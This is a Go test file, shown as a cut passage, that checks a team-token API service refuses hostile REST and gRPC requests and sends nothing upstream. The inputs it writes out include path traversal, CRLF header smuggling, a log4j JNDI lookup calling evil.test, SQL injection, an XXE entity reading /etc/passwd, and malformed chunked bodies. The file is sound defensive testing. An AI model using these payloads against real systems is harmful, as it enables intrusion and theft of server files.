package surface_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"math"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	teamtokenv1 "github.com/teamtoken/teamtoken/gen/go/teamtoken/v1"
	"github.com/teamtoken/teamtoken/internal/apierror"
	"github.com/teamtoken/teamtoken/internal/e2e/harness"
	"github.com/teamtoken/teamtoken/internal/simulator"
	"github.com/teamtoken/teamtoken/internal/upstream"
)

// Everything here goes out as the bytes that stand here: HTTP/1.1 requests over
// TCP, gRPC frames over HTTP/2. A well-behaved client would clean some of it.

// A restCase is a request that is refused with status and, where an RPC is
// meant by it, with a reason.
type restCase struct {
	name    string
	request harness.RawRequest
	status  int
	reason  string
	byHTTP  bool // net/http refuses it by itself, in plain text
}

func (c restCase) run(t *testing.T, f *harness.Server) {
	t.Helper()
	resp, body := f.SendREST(t, c.request)
	if resp.StatusCode != c.status {
		t.Fatalf("status %d, want %d: %s", resp.StatusCode, c.status, body)
	}
	if c.byHTTP {
		return
	}
	if got := resp.Header.Get("Content-Type"); got != harness.JSONAPI {
		t.Errorf("content type %q", got)
	}
	if got := resp.Header.Get("Cache-Control"); got != "no-store" {
		t.Errorf("cache control %q", got)
	}
	if c.request.Method == http.MethodHead {
		return
	}
	var doc struct {
		Errors []struct {
			Status, Code, Title string
			Meta                struct {
				RequestID string `json:"request_id"`
				Outcome   string
			}
		}
	}
	if err := json.Unmarshal(body, &doc); err != nil || len(doc.Errors) == 0 {
		t.Fatalf("no error document: %v: %s", err, body)
	}
	for _, e := range doc.Errors {
		if e.Status != strconv.Itoa(c.status) || e.Title == "" || e.Code != c.reason {
			t.Errorf("want status %d and reason %q: %s", c.status, c.reason, body)
		}
		if e.Meta.RequestID == "" || e.Meta.RequestID != resp.Header.Get("X-Request-Id") {
			t.Errorf("the request id is not that of the header: %s", body)
		}
		if e.Meta.Outcome != "" && e.Meta.Outcome != string(apierror.NotApplied) {
			t.Errorf("outcome %q", e.Meta.Outcome)
		}
	}
}

// A grpcCase is a call that is refused with a code and, where it is one of this
// service's methods, with a reason.
type grpcCase struct {
	name    string
	method  string
	headers [][2]string
	message []byte
	code    codes.Code
	reason  string
}

func (c grpcCase) run(t *testing.T, f *harness.Server, client *http.Client) {
	t.Helper()
	st := f.SendGRPC(t, client, c.method, c.headers, harness.Frame(c.message))
	d := apierror.FromStatus(st)
	if st.Code() != c.code || d.Reason != c.reason || st.Message() == "" {
		t.Fatalf("%v %q: %s; want %v %q", st.Code(), d.Reason, st.Message(), c.code, c.reason)
	}
	if c.reason == "" {
		return
	}
	if d.RequestID == "" {
		t.Error("no request id")
	}
	if c.reason == harness.InvalidField && len(d.Violations) == 0 {
		t.Error("no field is named")
	}
	if want := map[bool]string{false: string(apierror.NotApplied)}[slices.Contains([]string{harness.Get, harness.GetByID, harness.List}, c.method)]; d.Outcome != want {
		t.Errorf("outcome %q, want %q", d.Outcome, want)
	}
}

// What is hostile is refused with a clear error, and nothing goes upstream.
func TestHostile(t *testing.T) {
	t.Parallel()
	sim, url := harness.NewSimulator(t)
	service, callers := harness.Start(t, harness.WithService(sim, url)), harness.Start(t, harness.WithCallers(sim, url))
	client := harness.HTTP2(t)
	nothingUpstream := func(t *testing.T) {
		t.Helper()
		if n := len(sim.Requests()); n != 0 {
			t.Errorf("%d requests went upstream", n)
			sim.Reset()
		}
	}

	cases := 0
	seen := map[string]bool{}
	run := func(f *harness.Server, surface, name string, test func(*testing.T, *harness.Server)) {
		name = surface + "/" + name
		if seen[name] {
			t.Errorf("there are two cases %q", name)
		}
		seen[name], cases = true, cases+1
		t.Run(name, func(t *testing.T) {
			test(t, f)
			nothingUpstream(t)
		})
	}
	for _, c := range slices.Concat(teamIDsOverREST(), paths(), methods(), bodies(), contentTypes(), headers(), queries(), refusedByHTTP()) {
		run(service, "rest", c.name, c.run)
	}
	for _, c := range slices.Concat(teamIDsOverGRPC(), fields(), messages(), unknownMethods()) {
		run(service, "grpc", c.name, func(t *testing.T, f *harness.Server) { c.run(t, f, client) })
	}
	for _, a := range authorizations() {
		run(callers, "rest", "authorization "+a.name, func(t *testing.T, f *harness.Server) { a.overREST(t, f) })
		run(callers, "grpc", "authorization "+a.name, func(t *testing.T, f *harness.Server) { a.overGRPC(t, f, client) })
	}
	t.Logf("%d hostile cases", cases)
	if cases < 200 {
		t.Error("there are to be 200 at least")
	}
}

// teamIDs are ids of no team. rest is the status over REST: 404 where the path
// is that of nothing, 400 otherwise; 0 where net/http takes it for no request.
var teamIDs = []struct {
	name, id string
	rest     int
}{
	{"empty", "", 400},
	{"prefix alone", "team-", 400},
	{"a dot", ".", 400},
	{"two dots", "..", 400},
	{"traversal", "../organizations/acme", 404},
	{"traversal within", "team-../../organizations/acme/authentication-token", 404},
	{"traversal of the right length", "team-../../../../../.", 404},
	{"traversal with a parameter", "..;/organizations/acme", 404},
	{"traversal with backslashes", `..\..\organizations\acme`, 400},
	{"traversal, percent-encoded", "%2e%2e%2forganizations%2facme", 400},
	{"traversal, doubly percent-encoded", "%252e%252e%252forganizations%252facme", 400},
	{"traversal, over-long UTF-8", "team-\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae", 400},
	{"a valid letter percent-encoded", "team-%42UHBEM97xboT8TVz", 400},
	{"a valid hyphen percent-encoded", "team%2DBUHBEM97xboT8TVz", 400},
	{"a percent sign alone", "team-BUHBEM97xboT8TV%", 0},
	{"a percent sign and no digits", "team-BUHBEM97xboT8%zz", 0},
	{"a percent-encoded NUL", "team-BUHBEM97xboT8TVz%00", 400},
	{"a percent-encoded line feed", "team-BUHBEM97xboT8TVz%0a", 400},
	{"a NUL within", "team-BUHBEM97x\x00oT8TVz", 0},
	{"a NUL after", "team-BUHBEM97xboT8TVz\x00", 0},
	{"a line feed after", "team-BUHBEM97xboT8TVz\n", 0},
	{"a line feed within", "team-BUHBEM97xboT8\nVz", 0},
	{"a smuggled header", "team-BUHBEM97xboT8TVz\r\nX-A: b\r\n", 0},
	{"a tab", "team-BUHBEM97xboT8T\tz", 0},
	{"a space before", " team-BUHBEM97xboT8TVz", 0},
	{"a space after", "team-BUHBEM97xboT8TVz ", 0},
	{"an escape", "team-BUHBEM97xboT8\x1b[m", 0},
	{"a DEL", "team-BUHBEM97xboT8TV\x7f", 0},
	{"one short", "team-BUHBEM97xboT8TV", 400},
	{"one over", "team-BUHBEM97xboT8TVzz", 400},
	{"two ids", harness.Team + "," + harness.Team, 400},
	{"over-long", "team-" + strings.Repeat("A", 4000), 400},
	{"far over-long", "team-" + strings.Repeat("A", 60000), 431},
	{"prefix in upper case", "TEAM-BUHBEM97xboT8TVz", 400},
	{"prefix with a capital", "Team-BUHBEM97xboT8TVz", 400},
	{"another prefix", "user-BUHBEM97xboT8TVz", 400},
	{"an underscore for the hyphen", "team_BUHBEM97xboT8TVz", 400},
	{"an underscore among the letters", "team-BUHBEM97xbo_8TVz", 400},
	{"no prefix", "BUHBEM97xboT8TVz", 400},
	{"a token's id", "at-BUHBEM97xboT8TVz", 400},
	{"a token's id of the right length", "at-BUHBEM97xboT8TVzab", 400},
	{"an old token's id", "4111797", 400},
	{"an organization", "acme", 400},
	{"a team's name", "platform", 400},
	{"full-width letter", "team-ＢUHBEM97xboT8T", 400},
	{"Cyrillic letter", "team-ВUHBEM97xboT8TVz", 400},
	{"Arabic digit", "team-BUHBEM٩٧xboT8TVz", 400},
	{"en dash", "team–BUHBEM97xboT8TVz", 400},
	{"a zero-width space", "team-BUHBEM97xboT8TVz\u200b", 400},
	{"right-to-left override", "\u202eteam-BUHBEM97xboT8TVz", 400},
	{"a combining mark", "team-BUHBEM97xboT8TVz\u0301", 400},
	{"a bad byte", "team-BUHBEM97xboT8TV\xff", 400},
	{"a trailing slash", harness.Team + "/", 404},
	{"a leading slash", "/" + harness.Team, 404},
	{"a query", harness.Team + "?x=", 404},
	{"a query and a fragment", harness.Team + "?#", 404},
	{"a fragment", harness.Team + "#", 400},
	{"a matrix parameter", harness.Team + ";v=1", 400},
	{"a verb", harness.Team + ":generate", 400},
	{"a host", "@evil.test", 400},
	{"an address", "http://evil.test/", 404},
	{"a wildcard", "*", 400},
	{"a template", "{team_id}", 400},
	{"a format verb", "%s%s%s%n", 0},
	{"a log4j lookup", "${jndi:ldap://evil.test/a}", 400},
	{"SQL", "team-'OR'1'='1'--aaaa", 400},
	{"markup", "<script>", 400},
}

// httpMethods are those of the three RPCs.
var httpMethods = []string{http.MethodPost, http.MethodGet, http.MethodDelete}

func teamIDsOverREST() (cases []restCase) {
	for i, id := range teamIDs {
		c := restCase{
			name:    "team id " + id.name,
			request: harness.RawRequest{Method: httpMethods[i%3], Target: "/api/v2/teams/" + id.id + "/authentication-token"},
			status:  id.rest,
		}
		switch id.rest {
		case 0:
			c.status, c.byHTTP = 400, true
		case 400:
			c.reason = harness.InvalidField
		}
		cases = append(cases, c)
		// The same as a token's id. What is none of a team may well be one of a
		// token, and some paths lead to no RPC there.
		if _, err := upstream.ParseTokenID(id.id); err == nil || c.status == 404 || id.id == "" {
			continue
		}
		c.name = "token id " + id.name
		c.request = harness.RawRequest{Method: httpMethods[1:][i%2], Target: "/api/v2/authentication-tokens/" + id.id}
		cases = append(cases, c)
		c.name = "organization " + id.name
		c.request = harness.RawRequest{Method: "GET", Target: "/api/v2/organizations/" + id.id + "/team-tokens"}
		if _, err := upstream.ParseOrganization(id.id); err != nil {
			cases = append(cases, c)
		}
	}
	return cases
}

func teamIDsOverGRPC() (cases []grpcCase) {
	for i, id := range teamIDs {
		c := grpcCase{
			name: "team id " + id.name, method: []string{harness.Generate, harness.Get, harness.Del}[i%3],
			message: harness.Text(1, id.id), code: codes.InvalidArgument, reason: harness.InvalidField,
		}
		if !utf8.ValidString(id.id) {
			c.code, c.reason = undecodableCode, undecodableReason
		}
		cases = append(cases, c)
		if _, err := upstream.ParseTokenID(id.id); err != nil {
			c.name, c.method = "token id "+id.name, []string{harness.GetByID, harness.DelByID}[i%2]
			cases = append(cases, c)
		}
		if _, err := upstream.ParseOrganization(id.id); err != nil {
			c.name, c.method = "organization "+id.name, harness.List
			cases = append(cases, c)
		}
		c.name, c.method = "team id of a named token "+id.name, harness.Named
		c.message = append(harness.Text(1, id.id), harness.Text(2, "ci")...)
		cases = append(cases, c)
	}
	return cases
}

// paths stand next to the served ones.
func paths() (cases []restCase) {
	for _, p := range []string{
		"/", "//", "/api", "/api/v2", "/api/v2/", "/api/v1/teams/" + harness.Team + "/authentication-token", "/teams/" + harness.Team,
		harness.TokenPath + "/", harness.TokenPath + ".json", harness.TokenPath + "s/", harness.TokenPath + "s/at-1", harness.TokenPath + ":x", harness.TokenPath + "//",
		"//api/v2/teams/" + harness.Team + "/authentication-token", "/api/v2//teams/" + harness.Team + "/authentication-token",
		"/api/v2/./teams/" + harness.Team + "/authentication-token", "/api/v2/x/../teams/" + harness.Team + "/authentication-token",
		"/API/v2/teams/" + harness.Team + "/authentication-token", "/api/v2/teams/" + harness.Team + "/Authentication-Token",
		"/api/v2/organizations/acme/authentication-token", "/api/v2/authentication-tokens", "/api/v2/authentication-tokens/at-1/x", "/api/v2/account/details",
		"/api/v2/teams/" + harness.Team, "/metrics", "/debug/pprof/heap", "/readyz", harness.Get,
	} {
		cases = append(cases, restCase{name: "path " + p, request: harness.RawRequest{Method: http.MethodGet, Target: p}, status: 404})
	}
	return cases
}

// methods are not those of the path, and no header makes them so.
func methods() (cases []restCase) {
	for _, m := range []string{"PUT", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "QUERY", "get", "Post", "POSTT", "X"} {
		cases = append(cases, restCase{
			name: "method " + m, status: 405,
			request: harness.RawRequest{Method: m, Target: harness.TokenPath, Headers: []string{"X-HTTP-Method-Override: POST"}},
		})
	}
	for _, override := range []string{"X-HTTP-Method-Override: GET", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE"} {
		cases = append(cases, restCase{
			name: "a form with " + override, status: 415,
			request: harness.RawRequest{
				Method: "POST", Target: harness.TokenPath, Body: "_method=DELETE&team_id=" + harness.Team,
				Headers: []string{"Content-Type: application/x-www-form-urlencoded", override},
			},
		})
	}
	return append(cases,
		restCase{name: "a POST to ping", request: harness.RawRequest{Method: "POST", Target: "/api/v2/ping"}, status: 405},
		restCase{name: "a DELETE of ping", request: harness.RawRequest{Method: "DELETE", Target: "/api/v2/ping"}, status: 405},
	)
}

// post is a request that has a body and says that it is JSON:API.
func post(body string, headers ...string) harness.RawRequest {
	return harness.RawRequest{Method: "POST", Target: harness.TokenPath, Body: body, Headers: append([]string{"Content-Type: " + harness.JSONAPI}, headers...)}
}

// attributes is a document with these attributes.
func attributes(s string) string {
	return `{"data":{"type":"authentication-tokens","attributes":` + s + `}}`
}

func bodies() (cases []restCase) {
	for _, target := range []string{harness.TokenPath, "/api/v2/authentication-tokens/at-Gk2xNAhaoQLH1Day"} {
		for _, body := range []string{
			`{"data":{"type":"authentication-tokens"}}`, `{"expected_token_id":"at-1"}`, `{"data":[{"type":"teams","id":"x"}]}`, `[]`, `{"":1}`, `true`, `x`, "\x00",
		} {
			cases = append(cases, restCase{
				name: "a DELETE of " + target + " with the body " + body, status: 400, reason: harness.InvalidField,
				request: harness.RawRequest{Method: http.MethodDelete, Target: target, Body: body, Headers: []string{"Content-Type: " + harness.JSONAPI}},
			})
		}
	}
	add := func(name, body string) {
		cases = append(cases, restCase{name: "body: " + name, request: post(body), status: 400, reason: harness.InvalidField})
	}
	// Members of the wrong type, from the outside in.
	for _, v := range []string{`null`, `true`, `1`, `"x"`, `[]`, `{}`, `[{"data":{}}]`} {
		add("the document is "+v, v)
	}
	for _, v := range []string{`null`, `true`, `1`, `"x"`, `[]`, `[{}]`} {
		add("data is "+v, `{"data":`+v+`}`)
	}
	for _, v := range []string{
		`true`, `1`, `[]`, `{}`, `"teams"`, `"Authentication-Tokens"`, `" "`, `"authentication-tokens\u0000"`, "\"\xff\"", `"\ud800"`,
	} {
		add("type is "+v, `{"data":{"type":`+v+`}}`)
	}
	for _, v := range []string{`true`, `1`, `"x"`, `[]`, `[{}]`} {
		add("attributes are "+v, attributes(v))
	}
	for _, v := range []string{
		`true`, `1`, `4102444800`, `1e99`, `[]`, `{}`, `["2099-01-01T00:00:00Z"]`, `""`, `"never"`, `"null"`, `"tomorrow"`, `"4102444800"`, `"P1Y"`,
		`"2099-01-01"`, `"2099-01-01T00:00:00"`, `"2099-01-01 00:00:00Z"`, `" 2099-01-01T00:00:00Z"`, `"2099-01-01T00:00:00Z\n"`,
		`"2099-13-01T00:00:00Z"`, `"2099-02-30T00:00:00Z"`, `"2099-01-01T25:00:00Z"`, `"2099-01-01T00:00:00+25:00"`, `"99-01-01T00:00:00Z"`,
		`"+2099-01-01T00:00:00Z"`, `"２０９９-01-01T00:00:00Z"`,
		// Absurd, or over.
		`"10000-01-01T00:00:00Z"`, `"9999-12-31T23:59:59-23:59"`, `"0000-01-01T00:00:00Z"`, `"0001-01-01T00:00:00Z"`, `"-0001-01-01T00:00:00Z"`,
		`"1969-12-31T23:59:59Z"`, `"1970-01-01T00:00:00Z"`, `"2026-01-01T00:00:00Z"`,
	} {
		add("expired-at is "+v, attributes(`{"expired-at":`+v+`}`))
	}
	for _, v := range []string{`"ci"`, `""`, `1`, `{}`, `["ci"]`} {
		add("description is "+v, attributes(`{"description":`+v+`}`))
	}
	// A misspelt expiry would be a token that never expires.
	for _, name := range []string{
		"expired_at", "expiredAt", "Expired-At", "EXPIRED-AT", "expires-at", "expired-at ", "expired\u2011at", "expired–at", "",
		"token", "created-at", "id", "team_id", "request_id", "expected_token_id", "__proto__", "$where",
	} {
		add(fmt.Sprintf("attribute %q", name), attributes(fmt.Sprintf(`{%q:"2099-01-01T00:00:00.000Z"}`, name)))
	}
	for _, row := range []struct{ name, body string }{
		{"data twice, then null", `{"data":{},"data":null}`},
		{"type twice, then another", `{"data":{"type":"authentication-tokens","type":"teams"}}`},
		{"expired-at twice, then past", attributes(`{"expired-at":"2099-01-01T00:00:00Z","expired-at":"1999-01-01T00:00:00Z"}`)},
		{"attributes twice, one misspelt", `{"data":{"attributes":{"expired_at":"x"},"attributes":{}}}`},
		{"nested deep", strings.Repeat("[", 30000) + strings.Repeat("]", 30000)},
		{"nested deep in an attribute", attributes(`{"expired-at":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`)},
		{"nested deep beside the data", `{"data":{},"x":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + "}"},
		{"nested deep and never closed", strings.Repeat(`{"data":`, 8000)},
		{"a long number", attributes(`{"expired-at":` + strings.Repeat("9", 60000) + `}`)},
		{"a word after it", `{"data":{}} x`},
		{"a document after it", `{"data":{}}{"data":{}}`},
		{"a document on the next line", "{\"data\":{}}\n{\"data\":{}}\n"},
		{"a NUL after it", "{\"data\":{}}\x00"},
		{"a NUL before it", "\x00{\"data\":{}}"},
		{"a byte order mark", "\ufeff{\"data\":{}}"},
		{"UTF-16", "\xff\xfe{\x00}\x00"},
		{"NULs", "\x00\x00\x00\x00"},
		{"not closed", `{"data":{`},
		{"a trailing comma", `{"data":{},}`},
		{"a comment", `{"data":{} /* */}`},
		{"single quotes", `{'data':{}}`},
		{"a name without quotes", `{data:{}}`},
		{"NaN", attributes(`{"expired-at":NaN}`)},
		{"a form", "data=x"},
		{"XML", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`},
		{"YAML", "data: {}"},
		{"gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xabV*I,IT\xb2\xaa\xae\x05\x00"},
		{"a protobuf message", string(harness.Text(1, harness.Team))},
		{"the message in place of the document", `{"team_id":"` + harness.Team + `","request_id":"a"}`},
	} {
		add(row.name, row.body)
	}

	const tooLong = 64<<10 + 1
	over := func(name string, r harness.RawRequest) {
		cases = append(cases, restCase{name: "body: " + name, request: r, status: 413})
	}
	over("one byte too long", post(`{"data":{"x":"`+strings.Repeat("x", tooLong-17)+`"}}`))
	over("long", post(strings.Repeat("x", 200<<10)))
	over("long, of spaces", post(strings.Repeat(" ", tooLong)))
	over("long and chunked", post(chunked(strings.Repeat("x", 1000), 100), "Transfer-Encoding: chunked"))
	over("long, on a DELETE", harness.RawRequest{Method: "DELETE", Target: harness.TokenPath, Body: strings.Repeat("x", tooLong)})
	over("long, on a GET", harness.RawRequest{Method: "GET", Target: harness.TokenPath, Body: strings.Repeat("x", tooLong)})
	unread := func(name string, r harness.RawRequest) {
		r.Cut = true
		cases = append(cases, restCase{name: "body: " + name, request: r, status: 400, reason: harness.InvalidField})
	}
	unread("shorter than its length", post(`{"data":{}}`, "Content-Length: 100"))
	over("far shorter than its length", post(`{"data":{}}`, "Content-Length: 9223372036854775807"))
	for name, body := range map[string]string{
		"an expiry beside the attributes": `{"data":{"expired-at":"2099-01-01T00:00:00Z"}}`,
		"attributes with a slip":          `{"data":{"atributes":{"expired-at":"2099-01-01T00:00:00Z"}}}`,
		"attributes beside the data":      `{"data":{},"attributes":{"expired-at":"2099-01-01T00:00:00Z"}}`,
		"an expiry that is taken back":    `{"data":{"attributes":{"expired-at":"2099-01-01T00:00:00Z","expired-at":null}}}`,
		"names in capitals":               `{"DATA":{"ATTRIBUTES":{"expired-at":"2099-01-01T00:00:00Z"}}}`,
	} {
		cases = append(cases, restCase{name: "body: " + name, request: post(body), status: 400, reason: harness.InvalidField})
	}
	for _, q := range []string{
		"page%5Bsize%5D=0", "page%5Bsize%5D=101", "page%5Bsize%5D=x", "page%5Bnumber%5D=0", "page%5Bnumber%5D=-1",
		"page%5Bnumber%5D=99999999999999999999", "page%5Bnumber%5D=1e3", "sort=name", "sort=--expired-at",
		"filter%5Bexpiry_status%5D=stale", "filter%5Bexpiry_status%5D=active,,", "q=" + strings.Repeat("x", 257),
	} {
		cases = append(cases, restCase{
			name: "list: " + short(q), status: 400, reason: harness.InvalidField,
			request: harness.RawRequest{Method: "GET", Target: "/api/v2/organizations/acme/team-tokens?" + q},
		})
	}
	for name, r := range map[string]harness.RawRequest{
		"a guard by id":                 {Method: "DELETE", Target: "/api/v2/authentication-tokens/at-1?expected_token_id=at-1"},
		"a guard of a named token":      {Method: "POST", Target: harness.TokenPath + "s?expected_token_id=at-1"},
		"a guard with a slip":           {Method: "DELETE", Target: harness.TokenPath + "?expected-token-id=at-1"},
		"an empty guard":                {Method: "DELETE", Target: harness.TokenPath + "?expected_token_id="},
		"a guard twice":                 {Method: "DELETE", Target: harness.TokenPath + "?expected_token_id=at-1&expected_token_id=at-2"},
		"an empty guard, generate":      {Method: "POST", Target: harness.TokenPath + "?expected_token_id="},
		"a malformed guard, generate":   {Method: "POST", Target: harness.TokenPath + "?expected_token_id=a.b"},
		"allow_missing, generate":       {Method: "POST", Target: harness.TokenPath + "?allow_missing=true"},
		"a team in the query, generate": {Method: "POST", Target: harness.TokenPath + "?team_id=team-0000000000000000"},
		"a malformed query":             {Method: "DELETE", Target: harness.TokenPath + "?allow_missing=true;x"},
	} {
		cases = append(cases, restCase{name: "query: " + name, request: r, status: 400, reason: harness.InvalidField})
	}
	unread("a chunk cut short", post("ff\r\n{\"data\":{}}", "Transfer-Encoding: chunked"))
	unread("no last chunk", post("b\r\n{\"data\":{}}\r\n", "Transfer-Encoding: chunked"))
	unread("a chunk without a size", post("\r\n{\"data\":{}}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"))
	unread("a chunk of a negative size", post("-b\r\n{\"data\":{}}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"))
	unread("a chunk of too great a size", post("fffffffffffffffff\r\n{\"data\":{}}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"))
	return cases
}

// chunked is n chunks of s.
func chunked(s string, n int) string {
	return strings.Repeat(fmt.Sprintf("%x\r\n%s\r\n", len(s), s), n) + "0\r\n\r\n"
}

func contentTypes() (cases []restCase) {
	for name, headers := range map[string][]string{
		"none":                        {"Content-Type:"},
		"a semicolon":                 {"Content-Type: ;"},
		"text":                        {"Content-Type: text/plain"},
		"HTML":                        {"Content-Type: text/html"},
		"XML":                         {"Content-Type: application/xml"},
		"a form":                      {"Content-Type: application/x-www-form-urlencoded"},
		"a file":                      {"Content-Type: multipart/form-data; boundary=b"},
		"bytes":                       {"Content-Type: application/octet-stream"},
		"gRPC":                        {"Content-Type: application/grpc"},
		"anything":                    {"Content-Type: */*"},
		"a longer name":               {"Content-Type: application/vnd.api+jsonx"},
		"a shorter":                   {"Content-Type: application/vnd.api"},
		"two in one":                  {"Content-Type: application/json, text/plain"},
		"two":                         {"Content-Type: application/json", "Content-Type: text/plain"},
		"one twice":                   {"Content-Type: application/json", "Content-Type: application/json"},
		"a parameter without a value": {"Content-Type: application/json; charset"},
		"a quote that is not closed":  {`Content-Type: application/json; charset="utf-8`},
	} {
		cases = append(cases, restCase{
			name: "content type " + name, status: 415,
			request: harness.RawRequest{Method: "POST", Target: harness.TokenPath, Headers: headers, Body: `{"data":{}}`},
		})
	}
	return cases
}

func headers() (cases []restCase) {
	add := func(name string, headers ...string) {
		cases = append(cases, restCase{name: name, request: post(`{"data":{}}`, headers...), status: 400, reason: harness.InvalidField})
	}
	for _, v := range malformedRequestIDs {
		if !strings.ContainsAny(v, "\x00\n") && v != `"a"` { // net/http's to refuse, see refusedByHTTP; and a good key in quotes
			add("Idempotency-Key "+short(v), "Idempotency-Key: "+v)
		}
	}
	for _, v := range []string{
		`""`, `"`, `"""`, `"a`, `a"`, `""a""`, `"a\"`, `"a\\"`, `"\a"`, `"a\"b"`, `" a"`, `"a" "b"`, `"a","b"`, `"a";p`, `"a"; p=1`, `'a'`, `:YQ==:`, `?1`, `("a")`,
		`"` + strings.Repeat("a", 129) + `"`, `"ä"`, `“a”`, `%"a"`,
	} {
		add("Idempotency-Key as a structured field "+short(v), "Idempotency-Key: "+v)
	}
	add("Idempotency-Key in quotes, and bare", `Idempotency-Key: "a"`, "Idempotency-Key: a")
	add("Idempotency-Key in quotes twice", `Idempotency-Key: "a"`, `Idempotency-Key: "a"`)
	add("Idempotency-Key empty", "Idempotency-Key:")
	add("Idempotency-Key of a space", "Idempotency-Key:  ")
	add("Idempotency-Key twice", "Idempotency-Key: a", "Idempotency-Key: b")
	add("Idempotency-Key the same twice", "Idempotency-Key: a", "idempotency-key: a")
	add("Grpc-Timeout twice", "Grpc-Timeout: 5S", "Grpc-Timeout: 5S")
	add("Grpc-Timeout twice, one bad", "Grpc-Timeout: 5S", "grpc-timeout: 1x")
	add("Idempotency-Key folded", "Idempotency-Key: a\r\n b")
	for _, v := range []string{"1", "S", "-1S", "+1S", "1.5S", "1s", "123456789S", "1 S", "1S,1S", "0x1S", "1SS", "∞", "１S", "soon"} {
		add("Grpc-Timeout "+v, "Grpc-Timeout: "+v)
	}
	for name, more := range map[string][]string{
		"long headers": {"X-A: " + strings.Repeat("a", 64<<10)}, "many headers": slices.Repeat([]string{"X-A: a"}, 2000),
	} {
		cases = append(cases, restCase{name: name, request: post("", more...), status: 431})
	}
	return cases
}

// short is what a long value is called.
func short(v string) string {
	if len(v) > 20 {
		return fmt.Sprintf("of %d bytes", len(v))
	}
	return strconv.Quote(v)
}

var malformedRequestIDs = []string{
	"a b", "a/b", "../a", "a,b", `"a"`, "a\tb", "a\x00b", "a\nb", "a%20b", "a;b", "{a}", "ä", "ａ", "\u200b", strings.Repeat("a", 129), strings.Repeat("a", 8000),
}

var malformedTokenIDs = []string{
	"at_1", "at 1", "at/1", "../at-1", "at-1/..", "at-1?", "at-1#", "at-1\x00", "at-1\n", "at%2d1", "at–1", "аt-1", strings.Repeat("1", 65), "*", ".",
}

// queries are malformed; what a value may be is fields' to say.
func queries() (cases []restCase) {
	for _, q := range []string{
		"expected_token_id=..%2F..", "expected_token_id=at%001", "expected_token_id=at-1&expected_token_id=at-1", "expected_token_id=+",
		"expected_token_id=at-1%0a", "expected_token_id=" + strings.Repeat("1", 65), "expected_token_id.x=1",
		"allow_missing=maybe", "allow_missing=", "allow_missing=true&allow_missing=true", "allow_missing=2",
		"expected_token_id=%zz", "%", "a;b",
	} {
		cases = append(cases, restCase{
			name: "query " + q, request: harness.RawRequest{Method: "DELETE", Target: harness.TokenPath + "?" + q}, status: 400, reason: harness.InvalidField,
		})
	}
	return cases
}

// refusedByHTTP are no HTTP requests, or none that net/http lets through.
func refusedByHTTP() (cases []restCase) {
	add := func(name string, status int, r harness.RawRequest) {
		cases = append(cases, restCase{name: "no request: " + name, request: r, status: status, byHTTP: true})
	}
	add("no method", 400, harness.RawRequest{Target: harness.TokenPath})
	add("a NUL in the method", 400, harness.RawRequest{Method: "POST\x00", Target: harness.TokenPath})
	add("no target", 400, harness.RawRequest{Method: "POST"})
	add("a target that is no path", 400, harness.RawRequest{Method: "POST", Target: "api/v2"})
	add("two hosts", 400, post("", "Host: a", "Host: b"))
	add("a host that is none", 400, post("", "Host: a/../b"))
	add("a name with a space", 400, post("", "X A: b"))
	add("a name with a NUL", 400, post("", "X\x00: b"))
	add("no name", 400, post("", ": b"))
	add("no colon", 400, post("", "X-A"))
	add("a space before the colon", 400, post("", "Content-Length : 3"))
	add("a NUL in a value", 400, post("", "Idempotency-Key: a\x00b"))
	add("a NUL in the credential", 400, post("", "Authorization: Bearer a\x00b"))
	add("very long headers", 431, post("", "X-A: "+strings.Repeat("a", 1<<20)))
	add("very many headers", 431, post("", slices.Repeat([]string{"X-A: a"}, 100_000)...))
	add("a length below zero", 400, post("x", "Content-Length: -1"))
	add("a length that is none", 400, post("x", "Content-Length: 1x"))
	add("two lengths", 400, post("x", "Content-Length: 1", "Content-Length: 2"))
	add("an expectation", 417, post("", "Expect: nonsense"))
	add("two codings", 501, post("x", "Transfer-Encoding: chunked", "Transfer-Encoding: chunked"))
	add("a coding that is not known", 501, post("x", "Transfer-Encoding: gzip, chunked"))
	return cases
}

// fields are values of fields beside the team's id.
func fields() (cases []grpcCase) {
	add := func(name, method string, m proto.Message) {
		b, err := proto.Marshal(m)
		if err != nil {
			panic(err)
		}
		cases = append(cases, grpcCase{name: name, method: method, message: b, code: codes.InvalidArgument, reason: harness.InvalidField})
	}
	for _, v := range malformedRequestIDs {
		add("request_id "+short(v), harness.Generate, &teamtokenv1.GenerateTokenRequest{TeamId: harness.Team, RequestId: v})
	}
	for i, v := range malformedTokenIDs {
		name := "expected_token_id " + short(v)
		if i%2 == 0 {
			add(name, harness.Generate, &teamtokenv1.GenerateTokenRequest{TeamId: harness.Team, ExpectedTokenId: v})
		} else {
			add(name, harness.Del, &teamtokenv1.DeleteTokenRequest{TeamId: harness.Team, ExpectedTokenId: v})
		}
	}
	add("a named token without a description", harness.Named, &teamtokenv1.CreateNamedTokenRequest{TeamId: harness.Team})
	add("a description of a mile", harness.Named, &teamtokenv1.CreateNamedTokenRequest{TeamId: harness.Team, Description: new(strings.Repeat("x", 1025))})
	add("a named token's request_id", harness.Named, &teamtokenv1.CreateNamedTokenRequest{TeamId: harness.Team, Description: new(""), RequestId: "a b"})
	for name, m := range map[string]*teamtokenv1.ListTokensRequest{
		"a query of a mile":        {Query: strings.Repeat("x", 257)},
		"a sort of nothing":        {Sort: "-"},
		"a sort twice":             {Sort: "--team-name"},
		"a sort of two":            {Sort: "team-name,created-by"},
		"a status of two":          {ExpiryStatus: []string{"active,expired"}},
		"an empty status":          {ExpiryStatus: []string{""}},
		"a status in capitals":     {ExpiryStatus: []string{"ACTIVE"}},
		"a page of less than none": {PageSize: -1},
		"the smallest page":        {PageSize: math.MinInt32},
